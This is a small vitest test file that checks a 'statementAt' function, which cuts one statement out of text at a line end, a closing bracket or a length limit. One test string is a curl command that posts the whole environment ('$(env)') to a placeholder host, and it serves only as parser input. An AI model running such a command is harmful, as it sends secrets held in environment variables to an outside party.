import { expect, it } from 'vitest'
import { statementAt } from './statement-at.ts'

it.each([
  ['to the end of the line', 'curl -d "$(env)" https://a\nb', 'curl -d "$(env)" https://a'],
  ['to the bracket that closes', 'post(\n  a,\n  b\n)\nc', 'post(\n  a,\n  b\n)'],
  ['no further than what it stands in', 'get(a)) + b', 'get(a)'],
  ['not for ever', `(${'a'.repeat(2000)}`, `(${'a'.repeat(899)}`],
])('%s', (_, text, expected) => {
  expect(statementAt(text, 0)).toBe(expected)
})
